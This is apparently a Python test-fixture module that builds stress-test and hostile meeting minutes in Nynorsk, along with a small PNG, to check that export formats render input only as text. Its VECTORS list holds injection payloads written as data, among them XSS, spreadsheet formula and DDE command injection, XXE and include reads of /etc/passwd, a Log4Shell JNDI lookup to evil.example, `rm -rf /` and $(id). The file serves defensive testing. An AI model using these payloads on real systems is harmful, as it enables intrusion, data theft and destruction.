"""A book of odd content and a hostile one: what every format must take, show as text, and take for nothing else."""

import struct
import zlib

LONG = "Hovedtillitsvalgtsamarbeidsordningsevalueringsgruppemedlemskapsregisteret" * 3


def png(width: int = 40, height: int = 20) -> bytes:
    """A small picture."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    rows = b"".join(b"\0" + bytes([n * 6 % 256, 80, 160] * width) for n in range(height))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    text = chunk(b"tEXt", b"Author\0Hemmelig Fotograf")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + text + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def odd_minutes(cases: int = 40, actions: int = 200) -> str:
    """Minutes with many cases and actions, tables, pictures, deep lists, very long words and skipped levels of headings; in nynorsk."""
    parts = [
        "---",
        "tittel: Møte i rådet for «alt mogleg» & anna",
        "dato: 2024-06-04",
        "tid: 18.00–21.30",
        "stad: Kulturhuset på Nes",
        "møteleiar: Åse Øygard",
        "til stades:",
        *(f"  - Person Nummer-{n} (Kommune {n})" for n in range(30)),
        "  - N.N. (Nes)",
        "  - Maria? / Jonas? (Lillesund)",
        "fråfall: [Per Lie]",
        "vedlegg: [notat.pdf, 'rekneskap 2023 (utkast).xlsx']",
        "",
        "---",
        "",
        "##### Innleiing utan nivå",
        "",
        f"Eit svært langt ord: {LONG}",
        "",
    ]
    for number in range(1, cases + 1):
        parts += [
            f"## Sak {number}/24 Tittel nummer {number} (V, 15 min)",
            "",
            f"Tekst med **feit**, *kursiv*, `kode` og [lenkje](https://eksempel.no/{number}).",
        ]
        parts += ["", "#### Hoppar over eit nivå", "", "1. ein", "   - under", "     - meir under", "2. to", "", "> sitat", ""]
        if number % 5 == 0:
            parts += ["| Post | Kroner | Merknad |", "|---|---:|---|", f"| Mat | {number} 000 | {LONG} |", "| Leige | 2 | |", ""]
        if number % 10 == 0:
            parts += ["![Kart over *elva*](bilete/kart.png)", "", "```", "kode <b>", "```", ""]
        parts += [
            f"Framlegg til vedtak: Saka {number} blir utsett.",
            "",
            f"**Samrøystes vedtak:** Vedtak nummer {number}.",
            "",
            "Røysting: 12 mot 3.",
            "",
        ]
        parts += [
            f"- [{' x/-'[action % 4]}] @person{action} Gjere noko {action} frist:2024-07-{action % 28 + 1:02d} ^a{number:02d}{action:03d}"
            for action in range(actions // cases)
        ]
        parts.append("")
    return "\n".join(parts) + "\n"


# Texts that would do something, were they ever taken for more than text.
VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(2)</script>",
    "</style><script>alert(3)</script>",
    '"><script>alert(4)</script>',
    "' onmouseover='alert(5)",
    "<iframe src=//evil.example></iframe>",
    "<a href='javascript:alert(6)'>x</a>",
    "[x](javascript:alert(7))",
    "[x](JaVaScRiPt:alert(8))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](\\\\evil\\share)",
    "![x](https://evil.example/pixel.png)",
    "![x](../../../etc/passwd)",
    "![x](/etc/passwd)",
    "<https://evil.example/\u202egnp.exe>",
    '[x](https://evil.example/"onclick=alert(9))',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://evil.example","x")',
    '=IMPORTXML("https://evil.example")',
    "\t=1+1",
    "%0A=1",
    '{ HYPERLINK "https://evil.example" }',
    '{ INCLUDETEXT "/etc/passwd" }',
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
    "MERGEFIELD x",
    "w:fldSimple",
    "</w:t></w:r><w:r><w:instrText>",
    "]]><x/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "<?xml version='1.0'?>",
    "<!--#exec cmd='id'-->",
    '#import "@preview/x:1.0.0"',
    '#read("/etc/passwd")',
    '#eval("1+1")',
    '#image("/etc/passwd")',
    '#link("https://evil.example")[x]',
    "$ x^2 $",
    "<label> @label",
    "#set text(size: 99pt)",
    "\\u{202e}",
    "\u202egnirts desrever",
    "\u200b\u200bskjult",
    "\ufeffBOM",
    "\u0000".replace("\0", "\\0"),
    "\ue0000",
    "\x07bell".replace("\x07", "\\a"),
    "\u2028linje\u2029avsnitt",
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example}",
    "`rm -rf /`",
    "$(id)",
    "%n%n%s",
    "../../../../etc/passwd",
    "C:\\Windows\\System32",
    "😀🏳️‍🌈👨‍👩‍👧",
    "中文日本語한국어",
    "עברית العربية",
    "Z̸̢͇͕̅̆a̷l̵g̶o̸",
    "x" * 3000,
    "a\u0301" * 40,
    "𝒜𝓃𝓃𝒶 ½ ﬁ ŋ",
    "|a|b|",
    "- [x] @alle ny oppgave ^zzzzz",
    "## Ny sak",
)


def hostile_minutes() -> str:
    """Each vector in a title, a paragraph, a decision, a table cell, a task, an attachment and a name."""
    quoted = [
        vector.replace("\\", "\\\\").replace('"', '\\"').replace("\t", " ").replace("\u2028", " ").replace("\u2029", " ").replace("\ufeff", "")
        for vector in VECTORS
    ]
    parts = ["---", 'title: "</title><script>alert(0)</script> #eval(1) =1+1"', "date: 2024-06-04", 'place: "<b onclick=alert(1)>"', "present:"]
    parts += [f'  - {{name: "{one[:80]}", org: "{one[:80]}"}}' for one in quoted]
    parts += ["attachments:", *(f'  - "{one[:200]}"' for one in quoted), "", "---", ""]
    for number, vector in enumerate(VECTORS, 1):
        one = " ".join(vector.split())
        cell = one.replace("|", "\\|")
        parts += [f"## {number}. {one}", "", f"tekst {one} slutt", "", f"Decision: {one}", "", "| a | b |", "|---|---|", f"| {cell} | y |", ""]
        parts += [f"- [ ] gjør {one}  ^h{number:04d}", "", f"> {one}", "", "```", vector, "```", "", f"1. {one}", ""]
    return "\n".join(parts) + "\n"
